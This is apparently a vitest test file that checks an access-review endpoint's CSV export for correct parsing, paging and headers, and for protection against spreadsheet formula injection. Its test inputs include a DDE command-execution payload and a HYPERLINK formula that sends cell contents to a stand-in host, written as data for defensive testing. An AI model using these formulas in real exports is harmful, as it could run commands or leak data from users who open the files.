import { randomUUID } from "node:crypto"
import { afterAll, beforeAll, expect, test } from "vitest"
import { type LocalTestStack, startTestStack } from "./local-stack.ts"
import { reviewPages } from "./reviews.ts"

/** The access review as a file for a spreadsheet. */
let stack: LocalTestStack
beforeAll(async () => {
  stack = await startTestStack()
})
afterAll(() => stack.stop())

/** RFC 4180, as a spreadsheet reads it: throws for what isn't. */
function parse(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let at = 0
  while (at < text.length) {
    const [cell, quoted, plain, end] =
      /^(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/.exec(text.slice(at, at + 100_000)) ?? []
    if (cell === undefined) throw new Error(`no cell at ${at}`)
    row.push(quoted?.replaceAll('""', '"') ?? (plain as string))
    at += cell.length
    if (end === ",") continue
    rows.push(row)
    row = []
  }
  if (row.length > 0) throw new Error("the last line doesn't end")
  return rows
}

/** The first character that a spreadsheet would show, in its narrow form. */
const beginning = (cell: string): string => cell.normalize("NFKC").replace(/^[\s\p{Cf}"]+/u, "")[0] ?? ""
const unguarded = (cell: string): string => (/^'[\s\p{Cf}"']*[=+\-@＝＋－＠]/u.test(cell) ? cell.slice(1) : cell)

const csv = (path = "/access-review", accept = "text/csv") => stack.send(path, { headers: { Accept: accept } })

const names = [
  ...["=1+1", "@SUM(A1)", "+49 30 1234", "-1", "＝1", "－2+3", "'=1", '"=1"', "\u200b=1", "=cmd|' /C calc'!A0"],
  ...['=HYPERLINK("http://example.com?"&A1, "x")', "a, b", 'say "a"', "a; b", "Zürich 生产 🔑", "plain"],
]

test("has every text of the JSON, none of them as a formula, page after page", async () => {
  await stack.admin["teams/create"]({ body: { name: "Data Quality" } })
  for (const [n, name] of names.entries()) {
    const { user_id } = await stack.admin["users/create"]({
      body: { name: `${name} ${n} a`, role: "Editor", teams: ["Data Quality"], purpose: name },
    })
    const body = { name, type: "Service", user_id, expiration: n % 2 ? "30d" : "never" } as const
    await stack.admin["user-tokens/create"]({ body })
    await stack.admin["user-tokens/create"]({ body: { ...body, name: randomUUID() } })
  }
  const expected = (await reviewPages(stack, 5)).flatMap(({ checks, items }) => [
    ...checks.map(({ check, result, evidence }) => [...Array(10).fill(""), check, result, evidence]),
    ...items.flatMap(({ user, checks, tokens }) => [
      ...checks.map(({ check, result, evidence }) => [
        ...[user.user_id, user.name, user.role, user.teams.join("; "), user.purpose ?? "", "", ""],
        ...[user.status, user.last_used ?? "", "", check, result, evidence],
      ]),
      ...tokens.flatMap(({ token, checks }) =>
        checks.map(({ check, result, evidence }) => [
          ...[user.user_id, user.name, user.role, "", "", token.name, token.handle],
          ...[token.status, token.last_used ?? "", token.expiration ?? "", check, result, evidence],
        ]),
      ),
    ]),
  ])

  const rows: string[][] = []
  let path: string | undefined = "/access-review?limit=5"
  let hash: string | null = null
  for (let pages = 0; path; pages++) {
    const response = await csv(path)
    const [heading, ...more] = parse(await response.text())
    expect(heading?.join()).toBe(
      "user_id,name,role,teams,purpose,token,handle,status,last_used,expiration,check,result,evidence",
    )
    rows.push(...more)
    expect(hash).toBeNull()
    hash = response.headers.get("symbolon-review-hash")
    path = /^<\/api(\/access-review\?limit=5&cursor=[\w-]+)>; rel="next"$/.exec(response.headers.get("link") ?? "")?.[1]
    if (pages > 20) throw new Error("endless")
  }
  expect(rows.flat().filter((cell) => /^[=+\-@\t\r]$/.test(beginning(cell)))).toEqual([])
  expect(rows.map((row) => row.map(unguarded))).toEqual(expected)
  // A row for each check of each account and token, and on each page that of the stage.
  expect(rows.length).toBe(names.length * (3 + 2 * 3) + Math.ceil(names.length / 5))
  expect(hash).toBe((await reviewPages(stack)).at(-1)?.hash)
})

test("comes as a file, to who would rather have it than JSON", async () => {
  const response = await csv()
  expect(Object.fromEntries(response.headers)).toMatchObject({
    "content-type": "text/csv; charset=utf-8",
    "content-disposition": 'attachment; filename="access-review.csv"',
    "cache-control": "no-store",
    "x-content-type-options": "nosniff",
  })
  for (const accept of ["application/json", "*/*", "application/json, text/csv", "text/html, */*;q=0.1"])
    expect((await csv("/access-review", accept)).headers.get("content-type")).toBe("application/json")
  expect((await csv("/access-review", "text/csv;q=0.9, */*;q=0.8")).headers.get("content-type")).toMatch(/^text\/csv/)
})

test("is JSON where a request fails, and on a row that has no CSV", async () => {
  const refused = await csv("/access-review?limit=0")
  expect([refused.status, refused.headers.get("content-type")]).toEqual([422, "application/problem+json"])
  expect((await csv("/users/me")).headers.get("content-type")).toBe("application/json")
})
